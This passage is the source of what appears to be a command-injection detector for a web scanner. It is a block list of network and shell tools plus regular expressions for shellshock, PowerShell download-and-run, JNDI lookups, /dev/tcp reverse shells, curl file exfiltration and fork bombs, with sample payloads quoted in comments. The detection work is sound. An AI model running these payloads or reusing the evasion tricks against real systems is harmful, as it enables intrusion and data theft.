import { isJndiLookup } from './lookups';
import { noteReaderCap } from './reader-caps';
import { readShell, type ShellCommand } from './shell-tokens';

/**
 * Command and code injection, read as a shell would after the usual obfuscations are undone
 * (quotes inside words, `${IFS}`, brace lists): a command separator or substitution followed by
 * a command, shellshock, Windows cmd idioms, and the code-execution calls of the common server
 * languages and expression engines.
 */

/**
 * Commands that are not English words: any argument (or none) makes them a command. PowerShell's
 * cmdlets that wait, start a program or fetch and run a script are here by their full names as
 * their aliases are (`iex` is `Invoke-Expression`, `iwr` `Invoke-WebRequest`; branch i18-rce7).
 */
const STRONG = `whoami uname wget curl nc ncat netcat bash sh zsh ksh csh dash getent nslookup ifconfig ipconfig
  powershell pwsh certutil bitsadmin netstat systeminfo chmod chown mkfifo base64 python python2 python3
  perl ruby php busybox telnet xterm socat tftp lynx nohup crontab useradd passwd rev xxd od hexdump
  tasklist taskkill wmic reg regsvr32 rundll32 mshta cscript wscript msiexec nmap dig host iwr iex irm iwmi
  gdb vim lua luajit node nodejs tclsh socat openssl scp ssh sftp rsync ftp tar unzip gunzip bzip2 xargs strace
  ltrace taskset cpulimit ionice setarch docker kubectl mysql psql sqlite3 sudo chroot pkexec gawk mawk nawk
  ansible ansible-console ansible-inventory ansible-playbook cscli aria2c msfconsole msfvenom ncat.exe
  ansible-config ansible-doc ansible-galaxy ansible-vault gcc cc g++ clang irb pry jshell jrunscript jjs groovy
  zstd zstdcat zstdgrep bsdtar xz unxz xzcat lzma lzcat 7z 7za zcat bzcat zgrep gzip bunzip2 lz4 htop lastlog
  adduser usermod userdel groupadd visudo apt apt-get aptitude yum dnf rpm dpkg pip pip3 npm npx gem pkill killall
  lsof fuser iptables traceroute tracepath mtr whois hostname dmesg umount lsblk lscpu lspci lsusb lsmod
  modprobe insmod sysctl systemctl journalctl chattr lsattr getfacl setfacl readlink realpath objdump readelf
  ldd valgrind base32 md5sum sha1sum sha256sum cksum shred nproc ulimit sshpass dmidecode tcpdump wireshark
  tshark ngrep nmcli iwconfig chpasswd chsh vipw sqlcmd osql bcdedit bcdboot regedit schtasks sc.exe vssadmin
  wevtutil icacls cacls takeown netsh nltest dsquery csvde ldifde wmiprvse forfiles pcalua mftrace
  certreq esentutl expand.exe extrac32 findstr makecab replace.exe diskshadow cmstp odbcconf regasm regsvcs
  installutil msbuild pwsh.exe powershell.exe tracert
  start-sleep start-process invoke-expression invoke-webrequest invoke-restmethod`.split(/\s+/);
/** Commands that are also words ("cat", "echo", "type"): only with a shell-shaped argument. */
const WEAK = `id cat ls echo printf set type dir find sleep more head tail sort kill timeout ping net ver rm cp mv
  touch env exec eval cd pwd ps ls uname tac nl grep awk sed expr cmd start call del copy whoami
  ll who w last top free file split join cut paste make less vi ed ex at batch mount strings column perf
  wc tee dd df du stat ln chdir tree ip ss arp route su alias unalias export source history jobs fg bg
  wait trap umask shutdown reboot halt finger users groups test true false yes seq diff cmp comm uniq tr
  od fold base64 time nohup nice watch dd`.split(/\s+/);
export const STRONG_SET: ReadonlySet<string> = new Set(STRONG);
/** Word-commands that are a whole probe on their own (`;id`, `` `ls` ``), without an argument. */
const ALONE = new Set(['id', 'ls', 'pwd', 'ps', 'env', 'ver', 'dir', 'cmd', 'uname']);
/** Programs that only report on the system: run alone at the start of a value and cut by a separator, a probe. */
const RECON = new Set(['whoami', 'ifconfig', 'ipconfig', 'uname', 'netstat', 'systeminfo']);
/** Word-commands whose usual argument is a bare number (`; sleep 5`). */
const NUMERIC_ARGUMENT = new Set(['sleep', 'timeout', 'ping', 'kill']);
export const WEAK_SET: ReadonlySet<string> = new Set(WEAK);

const CODE_EXEC = new RegExp(
  [
    '\\(\\)\\s*\\{\\s*:?\\s*;?\\s*\\}\\s*;', // shellshock
    '\\b(?:invoke-(?:webrequest|expression|restmethod|wmimethod|command)\\b|iex\\s*\\(|new-object\\s+(?:system\\.)?net\\.webclient)', // PowerShell download-and-run
    // A string or an escaped one (`system(\\'ver\\')`); for the command runners also a call on one (R's `system(paste('id'))`).
    '\\b(?:system|passthru|shell_exec|exec|popen|proc_open|pcntl_exec|assert|create_function|call_user_func)\\s*\\(\\s*\\\\?[\'"$`]',
    '\\b(?:system|passthru|shell_exec|popen|proc_open)\\s*\\(\\s*[a-z_]\\w{0,20}\\s*\\(\\s*[\'"]',
    '\\$\\{@?(?:print|system|eval|phpinfo|exec|passthru)\\s*\\(',
    '<\\?(?:php|=)\\s',
    '\\bphpinfo\\s*\\(\\s*\\)',
    '__import__\\s*\\(\\s*[\'"](?:os|subprocess|socket)',
    '\\bos\\s*\\.\\s*(?:system|popen|exec[lv]p?e?)\\s*\\(',
    // Lua's `os.execute` given a string or a long string (`os.execute('id')`, `os.execute([[id]])`),
    // as `io.popen` is read (branch i18-rce7).
    '\\bos\\s*\\.\\s*execute\\s*\\(\\s*(?:[\'"]|\\[=*\\[)',
    '\\bsubprocess\\s*\\.\\s*(?:call|run|popen|check_output)\\s*\\(',
    '!!python/(?:object|name|module)',
    // Ruby's YAML tags that build an object of any class (Psych, `--- !ruby/object:Gem::Installer`).
    '!ruby/(?:object|struct|hash|marshal|class|module|exception)\\b',
    // Ghostscript's pipe device: `(%pipe%id) (w) file` runs a command from a PostScript or EPS image.
    '%pipe%[^\\s%]',
    // Python compiling a string to run it.
    '\\b(?:eval|exec)\\s*\\(\\s*compile\\s*\\(',
    // A JNDI name with a remote naming scheme, with or without its Log4j `${...}`
    // (`jndi:ldap://host/a`): what a lookup fetches a class from.
    'jndi\\s*:\\s*(?:ldaps?|rmi|dns|iiop|corbaname|nds|nis)\\s*:\\/\\/',
    // PowerShell running text: a script block or an assembly built from it, the engine's own
    // command invoker, a name put together by concatenation and called (`&("who"+"ami")`,
    // `.("i"+"ex")`); a process started through its .NET type, whose `System.` PowerShell's type
    // literals may leave out (`[Diagnostics.Process]::Start("cmd","/c whoami")`, branch i18-rce7).
    '\\[(?:system\\.)?diagnostics\\.process\\]\\s*::\\s*start\\s*\\(|\\[(?:system\\.)?(?:management\\.automation\\.)?scriptblock\\]::create\\s*\\(|\\[(?:system\\.)?reflection\\.assembly\\]::load\\w{0,20}\\s*\\(|\\$executioncontext\\s*\\.\\s*invokecommand\\b',
    '(?:^|[\\s;|(])[&.]\\s*\\(\\s*(?:\'[\\w.-]{1,20}\'|"[\\w.-]{1,20}")\\s*\\+\\s*[\'"$]',
    'runtime\\s*\\.\\s*getruntime\\s*\\(\\s*\\)\\s*\\.\\s*exec',
    'processbuilder\\s*\\(',
    'require\\s*\\(\\s*[\'"]child_process[\'"]\\s*\\)',
    '#_memberaccess|@java\\.lang\\.runtime|%\\{\\s*\\(#',
    '\\bex\\s*"?\\s*&?\\s*"?e\\s*"?\\s*&?\\s*"?cute\\s*\\(\\s*"', // VBScript Execute("...")
    '\\bev\\s*al\\s*\\(\\s*"',
    // find's `-exec` given a command and its end, as the whole value (`-exec whoami \;`, `-execdir
    // sh {} +`): an option that runs a program, handed to a find command line (argument injection).
    // Not inside a command line a snippet shows (`find . -name '*.log' -exec gzip {} \;`).
    '^\\s*-(?:exec|execdir|ok|okdir)\\s+[^\\s;]{1,100}(?:\\s[^;\\n]{0,200}?)?\\s(?:\\\\;|\'?;\'?|"?;"?|\\+)(?:\\s|$)',
    // An HTTP client told to send a system file (`--post-file=/etc/passwd`, `-d @/etc/shadow`,
    // `--upload-file /root/.ssh/id_rsa`): exfiltration through an option.
    '(?:--(?:post|body)-file[ =]|--data(?:-binary|-urlencode|-raw)?[ =]@|(?:^|\\s)-d\\s*@|--upload-file[ =]|(?:^|\\s)-T\\s+|(?:^|\\s)-F\\s*[\'"]?\\w{1,30}=@)\\/(?:etc|proc|root|home)\\/',
    // A task scheduled to run a command (`schtasks /create ... /tr calc.exe`).
    '\\bschtasks(?:\\.exe)?\\s+\\/create\\b[^\\n]{0,300}?\\s\\/tr\\s',
    // cmd.exe's switches may come before `/c` (`cmd /v:on /c ...`, `cmd /q /c`); `/r` is `/c`
    // (`cmd /?`). cmd.exe takes the rest of the line after the switch, a blank or not, and ends
    // its own name at `/` (`cmd.exe/cwhoami`, `cmd /cver`; branch i18-rce8): glued so only as
    // `cmd.exe` or as `cmd` and a blank where a command starts (`cmd/client` is a Go directory).
    'cmd(?:\\.exe)?\\s+(?:/[a-z](?::\\w{1,10})?\\s+){0,4}/[ckr]\\s',
    'cmd\\.exe(?:\\s*/[a-z](?::\\w{1,10})?){0,4}\\s*/[ckr](?=[\\s\\w"\'])',
    '(?:^|[&|;(\\n])[ \\t]*cmd\\s+(?:/[a-z](?::\\w{1,10})?\\s+){0,4}/[ckr](?=[a-z"])',
    '<!--\\s*#\\s*exec\\s+(?:cmd|cgi)\\s*=', // SSI exec runs a command
    '\\bpowershell(?:\\.exe)?\\s+-(?:e|enc|encodedcommand|c|command|nop|w|windowstyle|exec)\\b',
  ].join('|'),
  'i',
);

/**
 * Code-execution forms kept out of CODE_EXEC's one big search, each behind the character it
 * cannot do without (most values lack it): shellshock as the whole value (what bash imports from
 * the environment), git's pager option, cmd.exe FOR and IF, a path of glob wildcards
 * (`/???/b??h`), OGNL/EL concatenated into a string (`'+{233*233}+'`), Struts `%{...}`.
 */
const SHELLSHOCK_VALUE = /^\s*['"]?\(\)\s*\{/;
const CMD_FOR =
  /\bfor\s+(?:\/[dflr]\s+(?:"[^"]{0,100}"\s+|[a-z]:\\\S{0,100}\s+)?)*%%?[^\s%]{0,30}\s+in\s*\([^)]{0,200}\)\s*do\b/i;
/**
 * cmd.exe IF: a test cmd.exe has (`exist f`, `defined v`, `errorlevel 1`, `cmdextversion 2`) then
 * anything, or a comparison (`a==b`, `2 equ 2`) then a command or a block; a comparison of prose
 * words (`if a == b and ...` in code) needs cmd's own marks: `/i`, `%var%`, quotes or `( )`.
 */
const CMD_IF =
  /(?:^|[\s&|;(])if(?:\s+|(?=\/i\s))(?:(\/i)\s+)?(?:not\s+)?(?:(?:exist|defined|errorlevel|cmdextversion)\s+\S+\s+\S|(?:("[^"]{0,60}"|\([^()]{0,60}\)|%[^\s%]{1,40}%)|[^\s=]{1,40}?)\s*(?:===?|\s(?:equ|neq|lss|leq|gtr|geq)\s)\s*(?:("[^"]{0,60}"|\([^()]{0,60}\)|%[^\s%]{1,40}%|\\)|[^\s=]{1,40})\s+(?:(?:\(|(?:echo|cmd|del|call|goto|set|start|copy|type|dir|exit|cd|md|rd|ren|move|else)\b)|(?<=(?:\/i|["%)\\]).{0,200})[^\s{]))/i;
/**
 * cmd.exe's own IF forms that CMD_IF leaves (docs/detection.md, branch i18-rce6): cmd.exe cuts
 * `a==b` out of the line without blanks, which code in other languages writes with them or with
 * `(`, `:` or `then` around; so a glued comparison of bare words as the whole value, then a
 * command word, is cmd's (`if a==b foo`). And a test of a batch file's parameter (`%1`, `%~1`,
 * `%*`, as in `if not {%1} == {}`), which only a batch line has, with or without its command.
 */
const CMD_IF_GLUED =
  /^\s*if\s+(?:\/i\s+)?(?:not\s+)?[^\s=:;(){}]{1,40}==[^\s=:;(){}]{1,40}\s+(?!then\b|do\b)[a-z][\w.-]{0,30}(?:\s|$)/i;
const CMD_IF_PARAMETER = /^\s*if\s+(?:\/i\s+)?(?:not\s+)?[^\s=]{0,20}%~?[\d*][^\s=]{0,20}\s*==/i;
function isCmdIf(v: string): boolean {
  return CMD_IF.test(v) || CMD_IF_GLUED.test(v) || (v.includes('%') && CMD_IF_PARAMETER.test(v));
}
/**
 * A shell function that calls itself through a pipe or in the background (`:(){ :|:& };:`,
 * `f(){ f & f; };f`, `f(){ f() | f(); }; f`, `.(){ .|.& };.`, `t() { t | t & } t`): a fork bomb.
 * The name may be any word bash accepts for a function, `:` and `.` included; the call inside may
 * carry the `()` of a definition written by someone who thinks in C.
 */
const FORK_BOMB =
  /(?:^|[\s;&|])([\w:.]{1,20})\s*\(\s*\)\s*\{[^{}]{0,100}?(?<![\w:.])\1(?:\s*\(\s*\))?\s*[|&][^{}]{0,100}\}\s*(?:;|\1(?![\w:.]))/;
/**
 * A system file written with glob characters inside its path (`/etc/pas[s]wd`, `/etc/[!q]asswd`,
 * a star inside a directory name): only a shell expands them, to reach a file a filter would have caught.
 */
const SYSTEM_FILE_GLOB =
  /(?:^|[\s;|&`(=+'"])\/(?:(?:etc|bin|usr|proc|dev|sbin|root|var|tmp|home|boot|sys|opt)\/[\w./-]*(?:[a-z][*?]|[*?][a-z]|\[!?\^?[\w/-]{1,8}\])|[a-z]{1,6}\*\/\*?[a-z]|\[[\w/-]{1,8}\][a-z]{1,6}\/)/i;
/**
 * A bracket expression holding a `/` inside an absolute path (`/[e///]tc/[p//]asswd`, `/a[b///]c`):
 * pathname expansion never matches a `/` with a bracket expression (POSIX, "Patterns Used for
 * Filename Expansion"), so the slashes there find no file; they only break up the word a filter
 * looks for (branch i18-rce6). A bracket expression is a set of single characters, each named
 * once: a slash named twice or more beside a few characters (`[p//]`) is padding, where a
 * placeholder in a path holds words (`/api/[version/name]`, `/docs/[a/b]`).
 */
const SLASH_IN_BRACKET = /(?:^|[\s;|&`(=])\/[\w./-]{0,60}?\[([\w./-]{2,30})\]/g;
const MAX_BRACKET_CHARACTERS = 3;
function slashInPathBracket(v: string): boolean {
  for (const m of v.matchAll(SLASH_IN_BRACKET)) {
    const members = m[1];
    const others = members.replace(/\//g, '');
    // The slash named twice or more: a set lists a character once, so the repeats only pad the word.
    if (others.length > 0 && others.length <= MAX_BRACKET_CHARACTERS && members.length - others.length >= 2) return true;
  }
  return false;
}
/** A variable given a command and then run (`CMD=$'id';$CMD`, `a=whoami;$a`). */
const ASSIGN_THEN_RUN = /(?:^|[;&|\s^])([A-Za-z_]\w{0,30})=[^;&|\s]{1,100}\s*[;&|\n]+\s*\$\{?\1\b/;
/**
 * bash's `alias` builtin given a command (`alias -p jzfrx=id`, `alias ls-al='ls -al'`,
 * `alias x="curl"`) or defining a name that is then run (`alias a=c${KK}url&a google.com`,
 * `alias eennvv=env&eennvv whoami`): in a parameter, an alias only serves to make a command
 * appear under another name than the one a filter looks for. Also right after a `=`: a form body
 * read whole (`rce=alias a=c${KK}url&a host`) has the parameter's name before it.
 */
const ALIAS_DEFINITION = /(?:^|[;&|\s`(=])alias\s+(?:-[a-z]+\s+)*(['"]?)([^\s='"]{1,30})\1=(['"]?)([^\s;&|'"]{1,100})/g;
function aliasedCommand(v: string): boolean {
  for (const m of v.matchAll(ALIAS_DEFINITION)) {
    const [, , name, , value] = m;
    if (STRONG_SET.has(value) || WEAK_SET.has(value)) return true;
    const rest = v.slice(m.index + m[0].length);
    const escaped = name.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
    if (new RegExp(`[;&|\\n]\\s*${escaped}(?![\\w.-])`).test(rest)) return true;
  }
  return false;
}
/**
 * A host or address (what a ping, traceroute or lookup field holds) cut by a separator or opened
 * substitution, then any command (`127.0.0.1|echo x`, `example.com;id`, `8.8.8.8$(whoami)`): the
 * field was handed to a shell. A word-command counts here with any argument, since the host before
 * the separator already says where the value goes.
 */
const HOST_THEN_COMMAND =
  /^\s*(?:(\d{1,3}(?:\.\d{1,3}){3})|[a-z0-9-]{1,63}(?:\.[a-z0-9-]{1,63})+)\s*([;|&\n]{1,2}|\$\(|`)\s*([a-z][\w.-]{0,30})(?![\w.-])/i;
function hostThenCommand(v: string): boolean {
  const m = HOST_THEN_COMMAND.exec(v);
  if (m === null) return false;
  const [, address, separator, word] = m;
  if (STRONG_SET.has(word)) return true;
  // A word-command after a dotted name and a lone `;` or `&` may be a list (`file.txt;type`):
  // only after an address, a probe word (`;id`), a pipe, `&&`, `||` or a substitution.
  return WEAK_SET.has(word) && (address !== undefined || ALONE.has(word) || !/^[;&]$/.test(separator));
}
/** A command runner given a command as a bare word (`system(id)`, `passthru(ver)`: PHP reads an undefined constant as its name). */
const RUNNER_BARE_WORD = /\b(?:system|passthru|shell_exec|exec|popen|proc_open|pcntl_exec)\s*\(\s*([a-z][\w.-]{0,30})\s*[,)]/gi;
function runnerOfBareCommand(v: string): boolean {
  for (const m of v.matchAll(RUNNER_BARE_WORD)) if (STRONG_SET.has(m[1]) || WEAK_SET.has(m[1])) return true;
  return false;
}
/**
 * Template languages run on the server that a value should never carry: ColdFusion's tags that
 * run script, commands, objects or fetches (`<cfscript>`, `<cfexecute name=...>`, `<cfobject`),
 * and the `{if:...}...{end if}` blocks of the PHP CMS template engines (MacCMS, SeaCMS, zzzphp),
 * which evaluate the condition as PHP.
 */
const SERVER_TEMPLATE = /<cf(?:script|execute|object|invoke|http|file|include)\b|\{if:[^{}]{1,300}\}[\s\S]{0,300}?\{end if\}/i;
const GLOB_PATH = /(?:^|[\s;|&`(])\/(?:\w{0,4}[?*][\w?*]{0,8}\/)+\w{0,4}[?*][\w?*]{0,8}(?=$|[\s;|&`)])/;
const EXPRESSION_IN_STRING =
  /['"]\s*\+\s*[#$%]?\{[^{}]{1,200}\}\s*\+\s*['"]|%\{[^{}]{0,200}(?:#[a-z_]|@[a-z_]+\.[a-z_]|\d+\s*[*+]\s*\d+)/i;
/**
 * Groovy runs a string as a command line: `'id'.execute()`, `"ls /".execute().text`; and a list
 * literal of strings as the program and its arguments (`['sh','-c','id'].execute()`, GDK's
 * `List.execute()`), where an array of another language has no such method (branch i18-rce7); a
 * subscript (`job["run"].execute()`) follows a name or a bracket, a literal does not.
 */
const GROOVY_EXECUTE =
  /(?:['"][^'"\n]{1,200}['"]|(?<![\w\])$])\[\s*(?:(['"])[^'"\n]{0,200}\1\s*,\s*){0,20}(['"])[^'"\n]{1,200}\2\s*\])\.execute\s*\(\s*\)/;
/**
 * Wiki macros that run a script language on the server (XWiki's `{{groovy}}...{{/groovy}}`,
 * `{{python}}`, `{{velocity}}`): the macro opened and closed around code, which no page text needs.
 */
const SCRIPT_MACRO = /\{\{(groovy|python|jython|velocity|ruby|php|script)\b[^{}]{0,200}\}\}[\s\S]{1,2000}?\{\{\/\1\s*\}\}/i;

/** A shell or interpreter given its program as a here-string (`bash<<<id`, `sh <<< 'id'`, `python3<<<'import os'`). */
const HERE_STRING_TO_INTERPRETER =
  /(?:^|[\s;|&(`])(?:\/(?:usr\/)?bin\/)?(?:(?:ba|z|k|da|c|tc|fi)?sh|python[23]?|perl|ruby|php|node|lua)\s*<<<\s*\S/;

/**
 * A macro of HTTP File Server (HFS): `{.name|arguments.}` (`{.exec|cmd.exe /c ver.}`,
 * `{.save|x.vbs|...}`, `{.cookie|...}`), which its template engine runs from any text it renders,
 * search terms included (CVE-2014-6287). No prose or other template language writes `{.word|`.
 */
const HFS_MACRO = /\{\.[a-z][\w-]{1,20}\|[^{}]{0,400}\.\}/i;

/**
 * Exim's string expansion (docs/detection.md, "The smaller classes, third round"): `${run{...}}`
 * runs a program, `${readsocket{`, `${readfile{`, `${perl{`, `${dlfunc{` reach sockets, files and
 * code, and `${substr{0}{1}{$spool_directory}}` spells a `/` out of a variable (PHPMailer's
 * sender option, CVE-2016-10033; Exim's own recipients, CVE-2019-10149). Templates write
 * `${name}` or `${f(x)}`, never an operator then `{` inside the `${`.
 */
const EXIM_EXPANSION =
  /\$\{(?:run|readsocket|readfile|perl|dlfunc)\s*\{|\$\{(?:substr|extract|sg)\{[^{}]{0,40}\}\{[^{}]{0,40}\}\{\$[a-z_]{2,40}\}\}/i;
/**
 * Groovy's Grape annotations (`@Grab(group='x', module='y', version='1')`, `@GrabResolver(name='x',
 * root='http://host/')`, `@GrabConfig(disableChecksums=true)`): they make the compiler fetch and
 * load a jar, so checking a script's syntax runs the attacker's code (Jenkins, CVE-2018-1000861,
 * CVE-2019-1003000). The annotation glued to its `(`, then a Groovy argument: a `name=` or a quoted
 * `group:module` coordinate; a mention such as "@Grab (the app)" has neither.
 */
const GROOVY_GRAPE =
  /@Grab(?:Resolver|Config|Exclude)?\(\s*(?:[A-Za-z]\w{0,30}\s*=|['"][\w.-]{1,100}:[\w.-]{1,100})|@Grapes\(\s*\[?\s*@Grab\(/;
/**
 * H2's code definitions in a connection string or a statement (Metabase CVE-2023-38646, H2
 * consoles): `CREATE ALIAS x AS $$ <java> $$`, `CREATE TRIGGER t ... AS $$//javascript ...$$`
 * compile source given in the text; `INIT=RUNSCRIPT FROM '<url or non-SQL file>'` runs what it
 * reads when the database opens. A schema script (`INIT=RUNSCRIPT FROM 'classpath:schema.sql'`) is
 * a test configuration's own: only a URL or a file that is no `.sql` script counts.
 */
const H2_CODE =
  /\bCREATE\s+(?:OR\s+REPLACE\s+)?(?:FORCE\s+)?(?:ALIAS|TRIGGER)\s[^$;]{1,300}?\bAS\s*\$\$|\bINIT\s*=\s*RUNSCRIPT\s+FROM\s*'(?:[a-z]{2,10}:\/\/|(?![^']{0,300}\.sql')[^']{1,300}')/i;

function guardedCodeExec(v: string): boolean {
  return (
    (v.includes('${') && EXIM_EXPANSION.test(v)) ||
    (v.includes('@Grab') && GROOVY_GRAPE.test(v)) ||
    ((v.includes('$$') || v.includes('=')) && H2_CODE.test(v)) ||
    (v.includes('{.') && HFS_MACRO.test(v)) ||
    (v.includes('()') && (SHELLSHOCK_VALUE.test(v) || FORK_BOMB.test(v))) ||
    v.includes('--open-files-in-pager=') ||
    (v.includes('%') && CMD_FOR.test(v)) ||
    (v.includes(' ') && /[iI][fF]\s/.test(v) && isCmdIf(v)) ||
    ((v.includes('?') || v.includes('*')) && GLOB_PATH.test(v)) ||
    (v.includes('<<<') && HERE_STRING_TO_INTERPRETER.test(v)) ||
    ((v.includes('[') || v.includes('*') || v.includes('?')) && v.includes('/') && SYSTEM_FILE_GLOB.test(v)) ||
    (v.includes('[') && v.includes('/') && slashInPathBracket(v)) ||
    (v.includes('=') && v.includes('$') && ASSIGN_THEN_RUN.test(v)) ||
    (v.includes('{') && (EXPRESSION_IN_STRING.test(v) || (v.includes('{{/') && SCRIPT_MACRO.test(v)))) ||
    (v.includes('.execute') && GROOVY_EXECUTE.test(v)) ||
    (v.includes('(') && runnerOfBareCommand(v)) ||
    ((v.includes('<') || v.includes('{')) && SERVER_TEMPLATE.test(v)) ||
    (v.includes('.') && hostThenCommand(v)) ||
    (v.includes(':\\') && windowsSystemProgram(v))
  );
}

/**
 * A program only Windows ships, by its path under the system directory, as the whole value or
 * after a separator (`C:\\Windows\\System32\\whoami.exe`, `&c:\\windows\\system32\\ipconfig /all`): what
 * `/usr/bin/whoami` is on Unix (branch i18-rce7). A program both systems name (`ls`, a CRS
 * negative test of a Windows path), a folder of System32 and a path inside prose stay quiet.
 */
const WINDOWS_SYSTEM_PROGRAM =
  /(?:^|[;&|]\s*)["']?[a-z]:\\{1,2}windows\\{1,2}(?:system32|syswow64|sysnative)\\{1,2}(?:(?:wbem|windowspowershell\\{1,2}v1\.0)\\{1,2})?([a-z][\w-]{0,30})(?:\.exe)?["']?(?=$|[\s;&|])/gi;
function windowsSystemProgram(v: string): boolean {
  for (const m of v.matchAll(WINDOWS_SYSTEM_PROGRAM)) if (WINDOWS_SHELLS.has(m[1].toLowerCase())) return true;
  return false;
}

/**
 * `$IFS` as a word separator, `$((n op n))` (before `+` is read as a space below), and bash's
 * network redirections (`exec 5<>/dev/tcp/10.0.0.1/80`, `>& /dev/udp/host/53`): a path under
 * `/dev/tcp` or `/dev/udp` names no file, only bash opens it as a socket, which is what a reverse
 * shell is made of. Also an arithmetic expansion with a command substitution inside (`$(( $() 42
 * ))`: bash runs the command to get a number) and bash's old arithmetic `$[...]` left empty (`$[]`
 * is 0), where JSONPath's `$[...]` always has a subscript (branch i18-rce6).
 */
const SHELL_ONLY =
  /\$\(\([^()]{0,100}\$\(|\$\[\s*\]|[<>]\s*\/dev\/(?:tcp|udp)\/[\w.:-]{1,255}\/\d{1,5}|\$\(\s*<\s*['"]?(?:\/|~\/|\.\.\/)[^)]{1,200}\)|\$\{IFS\}|\$IFS\b|\$\(\(\s*-?\d+\s*[-+*\/%^&|]\s*-?\d+\s*\)\)|\$\[\s*-?\d+\s*[-+*\/%]\s*-?\d+\s*\]|\$\{#[A-Za-z_]\w{0,30}\}|\$\{[A-Za-z_]\w{0,30}(?:##?|%%|\^\^|,,)/;

/**
 * What is injected into any header, standard ones included (`Accept`, `Authorization`, `Range`...,
 * which are not read as free text): a shellshock function definition and a Log4j lookup.
 */
export function isHeaderInjection(value: string): boolean {
  return (
    (value.includes('()') && (SHELLSHOCK_VALUE.test(value) || /\(\)\s*\{\s*:?\s*;?\s*\}\s*;/.test(value))) ||
    (value.includes('${') && isJndiLookup(value))
  );
}

/**
 * A reconnaissance program that is no word of any language, alone as the whole value (`whoami`,
 * `ipconfig`, `ifconfig.exe`, `systeminfo`): what a scanner sends to a field it hopes a shell
 * runs (docs/detection.md, "The smaller classes, third round"), or with Windows options
 * (`ipconfig /all`, `whoami /priv`). Exact and lower-case, as a shell is given it; word-commands (`id`, `pwd`, `last`, `ver`) alone are ordinary values.
 */
const PROGRAM_ALONE = /^(?:whoami|ipconfig|ifconfig|systeminfo)(?:\.exe)?(?: \/[a-z]{1,10}){0,2}$/;
export const PROGRAM_ALONE_LENGTH = { min: 6, max: 38 } as const;
export function isProgramAlone(value: string): boolean {
  return PROGRAM_ALONE.test(value);
}

/**
 * A program that is no word (isProgramName) named as the whole value by its path in a bin
 * directory without the leading `/` (`bin/visudo`, `usr/sbin/cscli`): the path a command run from
 * the root, or after an application's own prefix, reaches (branch i18-rce6). A project's scripts
 * (`bin/rails`, `bin/setup`) are no such programs.
 */
const RELATIVE_BIN_PATH = /^(?:usr\/(?:local\/)?)?s?bin\/([a-z][\w.+-]{0,30})$/;
function isRelativeBinProgram(value: string): boolean {
  const name = RELATIVE_BIN_PATH.exec(value)?.[1];
  return name !== undefined && isProgramName(name);
}

/** The rce gate's characters other than quotes: a value with none of them can only be isPlainShell's. */
const SHELL_META = /[;|&$`\n\r(){}<>!%#/\\^]/;

/**
 * bash's tilde prefixes for the working directories as the whole value (`~+` is `$PWD`, `~-`
 * `$OLDPWD`, `~+2`, `~-1` entries of the directory stack): a word only a shell expands, sent to see
 * whether a directory's name comes back (branch i18-rce6). A tilde with a bare number (`~0`, `~5`)
 * is "about" in text, and `~/docs` is a home path, so both stay quiet.
 */
const TILDE_DIRECTORY = /^~[+-]\d{0,2}$/;

/**
 * A processing instruction of another target than PHP (`<?xml version="1.0"?>`, `<?xphp
 * system('id'); ?>`): PHP opens code only at `<?php`, `<?=` or `<?` and a blank; with short tags on,
 * `<?xphp` opens code whose first statement (`xphp system(...)`) is a parse error, and eval() fails
 * at its `<`, so no language runs its text (CRS 933100's negative test, branch i18-rce7). It is read
 * as a blank; what is outside it is read as before.
 */
const FOREIGN_INSTRUCTION = /<\?(?!php\b)[A-Za-z_][\w.:-]{0,30}(?=[\s?])[^?]{0,400}\?>/gi;
function withoutForeignInstructions(value: string): string {
  return value.includes('<?') ? value.replace(FOREIGN_INSTRUCTION, ' ') : value;
}

/**
 * A tab between two words of a one-line value (`uname%09-a`): the shell splits words at a tab as
 * at a space, so the value is read with spaces (branch i18-rce8). A value of several lines keeps
 * its tabs: there they lay out a file's text (a Makefile's recipe, a TSV table).
 */
const TAB_BLANK = /\S\t+\S/;
/** What parts a command's words: a space or a tab. */
const BLANK = /[ \t]/;
function withTabsAsBlanks(value: string): string {
  return value.includes('\t') && !value.includes('\n') && TAB_BLANK.test(value) ? value.replace(/\t/g, ' ') : value;
}

export function isRce(value: string): boolean {
  const spaced = withTabsAsBlanks(value);
  if (spaced !== value) return isRce(spaced);
  const text = withoutForeignInstructions(value);
  if (text !== value) return text.trim() !== '' && isRce(text);
  if (value.charCodeAt(0) === 0x7e && TILDE_DIRECTORY.test(value)) return true;
  if (value.includes('sleep') && SLEEP_LAST_LINE.test(value)) return true;
  if (!SHELL_META.test(value)) return isPlainShell(value);
  const dollar = value.includes('$');
  if (
    CODE_EXEC.test(value.includes('```') ? withoutCodeBlocks(value) : value) ||
    (value.includes('alias') && aliasedCommand(value)) ||
    (value.includes('bin/') && isRelativeBinProgram(value)) ||
    guardedCodeExec(value) ||
    ((dollar || value.includes('/dev/')) && (SHELL_ONLY.test(value) || (value.includes('${') && isJndiLookup(value))))
  )
    return true;
  if (shellCommandIn(value.includes('```') ? withoutCodeBlocks(value) : value)) return true;
  if ((value.includes('^') || value.includes('%') || value.includes('$env:')) && cmdCommandIn(value)) return true;
  return value.includes('`') && powershellCommandIn(value);
}

/**
 * The value as PowerShell reads it (docs/detection.md, branch i18-rce4): a backtick escapes the
 * next character, and before a letter that names no control character (`` `0 `a `b `e `f `n `r
 * `t `u `v ``) it is dropped, so ``i`ex`` is `iex` and ``Inv`oke-Ex`pression`` a cmdlet. Read only
 * when a backtick sits between two letters, which Markdown's inline code never does.
 */
const POWERSHELL_ESCAPE = /[A-Za-z]`[A-Za-z]/;
function powershellCommandIn(value: string): boolean {
  if (!POWERSHELL_ESCAPE.test(value)) return false;
  const text = value.replace(/`(?=[c-dg-mo-qswxyzA-Z])/g, '');
  return CODE_EXEC.test(text) || POWERSHELL_LINE.test(text) || PROGRAM_ALONE.test(text) || shellCommandIn(text);
}

/**
 * What Windows variables hold on a server (cmd.exe `%NAME%`, PowerShell `$env:NAME`): a command
 * written through them (`%COMSPEC% /c ver`, `%COMSPEC:~-7,3%`) names no program until they expand.
 * The system-wide ones whose value a default install fixes (Microsoft's "Recognized environment
 * variables"); a substring of one gives a blank or a letter a filter never sees
 * (`ping%CommonProgramFiles:~10,-18%127.0.0.1` is `ping 127.0.0.1`, branch i18-rce7).
 */
const WINDOWS_VARIABLES: Record<string, string> = {
  comspec: 'C:\\Windows\\system32\\cmd.exe',
  systemroot: 'C:\\Windows',
  windir: 'C:\\Windows',
  systemdrive: 'C:',
  programfiles: 'C:\\Program Files',
  programdata: 'C:\\ProgramData',
  public: 'C:\\Users\\Public',
